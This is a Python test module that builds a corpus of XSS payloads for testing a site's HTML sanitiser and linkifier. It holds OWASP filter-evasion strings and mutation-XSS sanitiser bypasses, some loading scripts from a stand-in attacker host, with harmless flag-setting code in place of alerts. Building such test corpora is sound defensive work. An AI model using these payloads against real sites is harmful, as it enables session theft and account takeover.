"""An XSS corpus: what a hostile reader types into a name, an "about" line or a comment.

Two parts:
- OWASP: the payloads of the OWASP "XSS Filter Evasion Cheat Sheet" (reproduced from memory,
  grouped as the sheet groups them), each with `alert(...)` replaced by code that sets a flag.
- MXSS: mutation-XSS and context-breaking payloads: parser namespace confusion (noscript, style,
  svg, math, template, select, table), raw-text-element breakouts (</textarea>, </title>,
  </style>, </script>, </noscript>, ...), comments and CDATA, backtick and nested-quote
  attributes, entity-encoded and whitespace-split javascript: URLs, links our own linkifier
  would make, and unicode look-alikes that NFKC turns into markup characters.

Every payload that runs sets `window.__xss` (some call alert/confirm/prompt instead, which a test
sees as a dialog). Every host named is on the reserved `.invalid` TLD, or a loopback address
on port 9, and the browser test maps all name resolution to nothing, so no payload that got
through could reach any machine but this one. PAYLOADS is the whole list, without duplicates.
"""

from __future__ import annotations

import base64

JS = "window.__xss=1"
EVIL = "xss.invalid"  # RFC 2606: never resolves


def dec(text: str, width: int = 0, semicolon: bool = True) -> str:
    """Every character as a decimal character reference (&#106; or &#0000106)."""
    return "".join(f"&#{ord(c):0{width}d}" + (";" if semicolon else "") for c in text)


def hexref(text: str, semicolon: bool = True) -> str:
    return "".join(f"&#x{ord(c):X}" + (";" if semicolon else "") for c in text)


def from_char_code(text: str) -> str:
    return "String.fromCharCode(" + ",".join(str(ord(c)) for c in text) + ")"


JS_URL = "javascript:" + JS
SVG_DOC = (
    f'<svg xmlns:svg="http://www.w3.org/2000/svg" xmlns="http://www.w3.org/2000/svg" version="1.0" '
    f'x="0" y="0" width="194" height="200" id="xss"><script type="text/ecmascript">parent.{JS}</script></svg>'
)
SVG_B64 = base64.b64encode(SVG_DOC.encode()).decode()
HTML_B64 = base64.b64encode(f"<script>parent.{JS}</script>".encode()).decode()

OWASP: list[str] = [
    # --- basic and locator --------------------------------------------------------------------
    f"<SCRIPT SRC=http://{EVIL}/xss.js></SCRIPT>",
    f"<SCRIPT>{JS}</SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+"
    + JS
    + "//'>",
    # the 0xsobky polyglot at the top of the sheet
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=" + JS + " )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=" + JS + "//>\\x3e",
    "'';!--\"<XSS>=&{()}",
    "<XSS verification test>",
    # --- image and javascript: directive variants ---------------------------------------------
    f'<IMG SRC="javascript:{JS};">',
    f"<IMG SRC=javascript:{JS}>",
    f"<IMG SRC=JaVaScRiPt:{JS}>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    f'\\<a onmouseover="{JS}"\\>xxs link\\</a\\>',
    f"\\<a onmouseover={JS}\\>xxs link\\</a\\>",
    f'<IMG """><SCRIPT>{JS}</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    f'<IMG SRC=# onmouseover="{JS}">',
    f'<IMG SRC= onmouseover="{JS}">',
    f'<IMG onmouseover="{JS}">',
    f'<IMG SRC=/ onerror="eval({from_char_code(JS)})"></img>',
    f'<img src=x onerror="{dec(JS_URL, 7, False)}">',
    f"<IMG SRC={dec(JS_URL)}>",
    f"<IMG SRC={dec(JS_URL, 7, False)}>",
    f"<IMG SRC={hexref(JS_URL, False)}>",
    f'<IMG SRC="jav\tascript:{JS};">',
    f'<IMG SRC="jav&#x09;ascript:{JS};">',
    f'<IMG SRC="jav&#x0A;ascript:{JS};">',
    f'<IMG SRC="jav&#x0D;ascript:{JS};">',
    f"<IMG SRC=java\0script:{JS}>",
    f'<IMG SRC=" &#14;  javascript:{JS};">',
    f'<SCRIPT/XSS SRC="http://{EVIL}/xss.js"></SCRIPT>',
    f"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={JS}>",
    f'<SCRIPT/SRC="http://{EVIL}/xss.js"></SCRIPT>',
    f"<<SCRIPT>{JS};//\\<</SCRIPT>",
    f"<SCRIPT SRC=http://{EVIL}/xss.js?< B >",
    f"<SCRIPT SRC=//{EVIL}/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    f"<iframe src=http://{EVIL}/scriptlet.html <",
    f'\\";{JS};//',
    f"</TITLE><SCRIPT>{JS};</SCRIPT>",
    f'<INPUT TYPE="IMAGE" SRC="javascript:{JS};">',
    f'<BODY BACKGROUND="javascript:{JS}">',
    f'<IMG DYNSRC="javascript:{JS}">',
    f'<IMG LOWSRC="javascript:{JS}">',
    f'<STYLE>li {{list-style-image: url("javascript:{JS}");}}</STYLE><UL><LI>XSS</br>',
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    '<IMG SRC="livescript:[code]">',
    f"<svg/onload={JS}>",
    "Set.constructor`alert\\x28document.domain\\x29`",
    f"<BODY ONLOAD={JS}>",
    f'<BGSOUND SRC="javascript:{JS};">',
    f'<BR SIZE="&{{{JS}}}">',
    f'<LINK REL="stylesheet" HREF="javascript:{JS};">',
    f'<LINK REL="stylesheet" HREF="http://{EVIL}/xss.css">',
    f"<STYLE>@import'http://{EVIL}/xss.css';</STYLE>",
    f'<META HTTP-EQUIV="Link" Content="<http://{EVIL}/xss.css>; REL=stylesheet">',
    f'<STYLE>BODY{{-moz-binding:url("http://{EVIL}/xssmoz.xml#xss")}}</STYLE>',
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    'exp/*<A STYLE=\'no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))\'>',
    f'<STYLE TYPE="text/javascript">{JS};</STYLE>',
    f'<STYLE>.XSS{{background-image:url("javascript:{JS}");}}</STYLE><A CLASS=XSS></A>',
    f'<STYLE type="text/css">BODY{{background:url("javascript:{JS}")}}</STYLE>',
    '<STYLE type="text/css">BODY{background:url("<javascript:alert>(\'XSS\')")}</STYLE>',
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    '<XSS STYLE="behavior: url(xss.htc);">',
    "\u00bcscript\u00bealert(\u00a2XSS\u00a2)\u00bc/script\u00be",
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:{JS};">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,{HTML_B64}">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:{JS};">',
    f'<IFRAME SRC="javascript:parent.{JS};"></IFRAME>',
    f'<IFRAME SRC=# onmouseover="{JS}"></IFRAME>',
    f'<FRAMESET><FRAME SRC="javascript:parent.{JS};"></FRAMESET>',
    f'<TABLE BACKGROUND="javascript:{JS}">',
    f'<TABLE><TD BACKGROUND="javascript:{JS}">',
    f'<DIV STYLE="background-image: url(javascript:{JS})">',
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070"
    "\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    f'<DIV STYLE="background-image: url(&#1;javascript:{JS})">',
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    f"<!--[if gte IE 4]><SCRIPT>{JS};</SCRIPT><![endif]-->",
    f'<BASE HREF="javascript:{JS};//">',
    f'<OBJECT TYPE="text/x-scriptlet" DATA="http://{EVIL}/scriptlet.html"></OBJECT>',
    f'<EMBED SRC="data:image/svg+xml;base64,{SVG_B64}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    f'<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:{JS}"></B></I></XML>'
    '<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
    '<XML SRC="xsstest.xml" ID=I></XML><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>',
    '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" '
    f'implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>{JS}</SCRIPT>">'
    "</BODY></HTML>",
    f'<SCRIPT SRC="http://{EVIL}/xss.jpg"></SCRIPT>',
    f"<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=http://{EVIL}/xss.js></SCRIPT>'\"-->",
    f"<? echo('<SCR)'; echo('IPT>{JS}</SCRIPT>'); ?>",
    f'<IMG SRC="http://{EVIL}/somecommand.php?somevariables=maliciouscode">',
    f'<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>{JS}</SCRIPT>">',
    '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>'
    "+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    # --- quote encapsulation -----------------------------------------------------------------
    f'<SCRIPT a=">" SRC="httx://{EVIL}/xss.js"></SCRIPT>',
    f'<SCRIPT =">" SRC="httx://{EVIL}/xss.js"></SCRIPT>',
    f'<SCRIPT a=">" \'\' SRC="httx://{EVIL}/xss.js"></SCRIPT>',
    f'<SCRIPT "a=\'>\'" SRC="httx://{EVIL}/xss.js"></SCRIPT>',
    f'<SCRIPT a=`>` SRC="httx://{EVIL}/xss.js"></SCRIPT>',
    f'<SCRIPT a=">\'>" SRC="httx://{EVIL}/xss.js"></SCRIPT>',
    f'<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://{EVIL}/xss.js"></SCRIPT>',
    # --- URL string evasion (loopback on the discard port instead of a real address) ----------
    '<A HREF="http://127.0.0.1:9/">XSS</A>',
    '<A HREF="http://%78%73%73%2E%69%6E%76%61%6C%69%64">XSS</A>',
    '<A HREF="http://2130706433:9/">XSS</A>',
    '<A HREF="http://0x7f.0x0.0x0.0x1:9/">XSS</A>',
    '<A HREF="http://0177.0000.0000.0001:9/">XSS</A>',
    '<A HREF="h\ntt\tp://1 27.0x0.0.1:9/">XSS</A>',
    f'<A HREF="//{EVIL}/">XSS</A>',
    '<A HREF="//invalid">XSS</A>',
    f'<A HREF="http://attacker.invalid@{EVIL}">XSS</A>',
    f'<A HREF="http://{EVIL}:attacker.invalid">XSS</A>',
    f'<A HREF="http://www.{EVIL}./">XSS</A>',
    f"<A HREF=\"javascript:document.location='http://{EVIL}/'\">XSS</A>",
    f'<A HREF="http://www.{EVIL}/ogle.com/">XSS</A>',
    # --- event handlers (the sheet's list, a tag for each) ------------------------------------
    f"<img src=x onerror={JS}>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=confirm(1)>",
    "<img src=x onerror=prompt(1)>",
    f"<body onpageshow={JS}>",
    f"<body onfocus={JS}>",
    f"<body onhashchange={JS}>",
    f"<input autofocus onfocus={JS}>",
    f"<select autofocus onfocus={JS}>",
    f"<textarea autofocus onfocus={JS}>",
    f"<keygen autofocus onfocus={JS}>",
    f"<details open ontoggle={JS}>",
    f"<video><source onerror={JS}></video>",
    f"<audio src=x onerror={JS}>",
    f"<video poster=javascript:{JS}//></video>",
    f"<marquee onstart={JS}>XSS</marquee>",
    f"<object data=javascript:{JS}>",
    f"<embed src=javascript:{JS}>",
    f"<form><button formaction=javascript:{JS}>X</button>",
    f"<isindex action=javascript:{JS} type=submit value=click>",
    f"<math href=javascript:{JS}>CLICKME</math>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f"<style onload={JS}></style>",
    f"<iframe onload={JS}>",
    f"<xss id=x tabindex=1 onfocus={JS} autofocus></xss>",
    f"<div onpointerover={JS}>MOVE HERE</div>",
    f"<a onmouseover={JS}>xxs link</a>",
    f'<a href="https://{EVIL}/" onclick="{JS}">click</a>',
]

# The sheet's "character escape sequences": every way of writing '<' in front of a tag.
LT_FORMS = [
    "<",
    "%3C",
    "&lt",
    "&lt;",
    "&LT",
    "&LT;",
    "&#60",
    "&#060",
    "&#0060",
    "&#00060",
    "&#000060",
    "&#0000060",
    "&#60;",
    "&#060;",
    "&#0060;",
    "&#x3c",
    "&#x03c",
    "&#X3c",
    "&#x3C;",
    "&#X03C;",
    "\\x3c",
    "\\x3C",
    "\\u003c",
    "\\u003C",
    "\\074",
    "+ADw-",
    "\u00bc",
    "\uff1c",
    "\ufe64",
    "\u2039",
    "\u3008",
    "%253C",
    "&#x1D4C1;",
]
OWASP += [f"{lt}img src=x onerror={JS}>" for lt in LT_FORMS]

MXSS: list[str] = [
    # --- namespace confusion (DOMPurify/sanitiser bypasses) ----------------------------------
    f'<noscript><p title="</noscript><img src=x onerror={JS}>">',
    f"<style><style/><img src=x onerror={JS}>",
    f"<svg><style><img src=x onerror={JS}></style></svg>",
    f"<math><style><img src=x onerror={JS}></style></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;'
    f'onerror={JS}&gt;">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={JS}>">',
    f'<svg><p><style><a id="</style><img src=1 onerror={JS}>">',
    f"<template><style></template><img src=x onerror={JS}>",
    f"<template><img src=x onerror={JS}></template>",
    f"<select><template><style><!--</style><img src=x onerror={JS}>--></template></select>",
    f"<table><tr><td><style></td><img src=x onerror={JS}>",
    f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>",
    f'<math><annotation-xml encoding="text/html"><img src=x onerror={JS}></annotation-xml></math>',
    f"<svg><desc><img src=x onerror={JS}></desc></svg>",
    f"<svg><title><img src=x onerror={JS}></title></svg>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><script href=data:,{JS} />",
    f'<svg><a xlink:href="javascript:{JS}"><text x=20 y=20>XSS</text></a></svg>',
    f'<math><maction actiontype="statusline" xlink:href="javascript:{JS}">XSS</maction></math>',
    f"<svg><set onbegin={JS} attributename=x to=1>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    f"<image href='1' onerror='{JS}'/></svg>#x\"/></svg>",
    # --- raw text and escapable raw text elements: break out of where data might be put -------
    f"</textarea><img src=x onerror={JS}>",
    f"</textarea><script>{JS}</script>",
    f"</title><img src=x onerror={JS}>",
    f"</style><img src=x onerror={JS}>",
    f"</script><script>{JS}</script>",
    f"</noscript><img src=x onerror={JS}>",
    f"</template><img src=x onerror={JS}>",
    f"</xmp><img src=x onerror={JS}>",
    f"</iframe><img src=x onerror={JS}>",
    f"</noembed><img src=x onerror={JS}>",
    f"</noframes><img src=x onerror={JS}>",
    f"</option></select><img src=x onerror={JS}>",
    f"</p></div></li></ol></section></main><img src=x onerror={JS}>",
    f'<noembed><img title="</noembed><img src=x onerror={JS}>">',
    f'<noframes><img title="</noframes><img src=x onerror={JS}>">',
    f'<xmp><img title="</xmp><img src=x onerror={JS}>">',
    f'<iframe><img title="</iframe><img src=x onerror={JS}>">',
    f'<textarea><img title="</textarea><img src=x onerror={JS}>">',
    f'<title><img title="</title><img src=x onerror={JS}>">',
    f"<plaintext><img src=x onerror={JS}>",
    # --- comments, CDATA, processing instructions, doctype ------------------------------------
    f'<!--<img src="--><img src=x onerror={JS}//">',
    f"<!-- --!><img src=x onerror={JS}>",
    f"<!--><img src=x onerror={JS}>-->",
    f"<!---><img src=x onerror={JS}>-->",
    f"--><img src=x onerror={JS}>",
    f"<![CDATA[><img src=x onerror={JS}>]]>",
    f"<svg><![CDATA[><img src=x onerror={JS}>]]></svg>",
    f'<? foo="><script>{JS}</script>">',
    f"<!DOCTYPE html><img src=x onerror={JS}>",
    f'<!a="><img src=x onerror={JS}>">',
    # --- attribute quoting: backticks, nested quotes, breaking out of value="..." -------------
    f"<img src=`x` onerror=`{JS}`>",
    f'<img src="x` `<script>{JS}</script>"` `>',
    f'"><img src=x onerror={JS}>',
    f"'><img src=x onerror={JS}>",
    f"`><img src=x onerror={JS}>",
    f"\"'><svg onload={JS}>",
    f'" autofocus onfocus="{JS}',
    f"' autofocus onfocus='{JS}",
    f'" onmouseover="{JS}" x="',
    f'"/onfocus="{JS}"/autofocus/x="',
    f'<img src=x onerror="{JS}"x>',
    f"<img/src/onerror={JS}>",
    f"<img\tsrc=x\nonerror={JS}>",
    f"<img src=x onerror\x0c={JS}>",
    "<img src=x onerror=&#x77;indow.__xss=1>",
    "<img src=x onerror='\\u0077indow.__xss=1'>",
    # --- entity-encoded, split and obfuscated javascript: URLs --------------------------------
    f'<a href="{dec(JS_URL)}">click</a>',
    f'<a href="{hexref(JS_URL)}">click</a>',
    f'<a href="javas&#x09;cript:{JS}">click</a>',
    f'<a href="&#x6A;avascript&colon;{JS}">click</a>',
    f'<a href="jav&NewLine;ascript&colon;{JS}">click</a>',
    f'<a href="&#0000106avascript:{JS}">click</a>',
    f'<a href="\x01javascript:{JS}">click</a>',
    f'<a href=" javascript:{JS}">click</a>',
    f'<a href="javascript&#58{JS}">click</a>',
    f'<a href="data:text/html;base64,{HTML_B64}">click</a>',
    f'<a href="vbscript:{JS}">click</a>',
    f'<iframe srcdoc="&lt;img src=x onerror=parent.{JS}&gt;"></iframe>',
    f'<object data="data:text/html,<script>parent.{JS}</script>"></object>',
    # --- things our own linkifier turns into links --------------------------------------------
    f'https://{EVIL}/"><img src=x onerror={JS}>',
    f'https://{EVIL}/?"onmouseover="{JS}',
    f"https://{EVIL}/'onmouseover='{JS}'",
    f"https://{EVIL}/#<script>{JS}</script>",
    f"www.{EVIL}/'onfocus='{JS}'autofocus='",
    f"https://{EVIL}/`onclick=`{JS}`",
    f"javascript://{EVIL}/%0A{JS}",
    f"javascript://%0a{JS}",
    f"JaVaScRiPt:{JS}",
    f"java\tscript:{JS}",
    f"data:text/html,<script>{JS}</script>",
    f"mailto:x@{EVIL}?body=<script>{JS}</script>",
    f'mailto:"><img src=x onerror={JS}>@{EVIL}',
    f'x@{EVIL}"onmouseover="{JS}',
    f"https://{EVIL}/<svg/onload={JS}>",
    f'http://{EVIL}:80"onmouseover="{JS}"/',
    # --- encoded once more: must be shown exactly as typed ------------------------------------
    f"&lt;img src=x onerror={JS}&gt;",
    f"&#60;script&#62;{JS}&#60;/script&#62;",
    f"&amp;lt;script&amp;gt;{JS}&amp;lt;/script&amp;gt;",
    f"\\u003cimg src=x onerror={JS}\\u003e",
    f"\\x3cscript\\x3e{JS}\\x3c/script\\x3e",
    f"%3Cscript%3E{JS}%3C/script%3E",
    # --- template and expression injection ----------------------------------------------------
    f"{{{{constructor.constructor('{JS}')()}}}}",
    "{{ 7*7 }} {% raw %} {# x #} ${7*7} #{7*7} <%= 7*7 %>",
    f"${{{JS}}}",
    # --- unicode: look-alikes, invisibles and controls inside markup --------------------------
    f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e",
    f"\ufe64img src=x onerror={JS}\ufe65",
    f"\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54\uff1a{JS}",
    f"<scr\u200bipt>{JS}</scr\u200bipt>",
    f"<scr\x00ipt>{JS}</scr\x00ipt>",
    f"<img src=x one\u200brror={JS}>",
    f"<img src=x onerror\u3000={JS}>",
    f"\u202e>gmi<\u202c<img src=x onerror={JS}>",
    f"<img src=x\u2028onerror={JS}>",
    f"<\u0131mg src=x onerror={JS}>",
    f"<ſcript>{JS}</ſcript>",
    f"<img src=x onerror={JS}>\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
    # --- newlines: paragraphs and <br> around markup -------------------------------------------
    f"<img src=x\n\nonerror={JS}>",
    f"<script>\n{JS}\n</script>\n\n<p>para</p>\r\n<br>",
    f'first line\n<img src=x onerror={JS}>\n\nhttps://{EVIL}/\n"><svg onload={JS}>',
]

PAYLOADS: list[str] = list(dict.fromkeys(OWASP + MXSS))
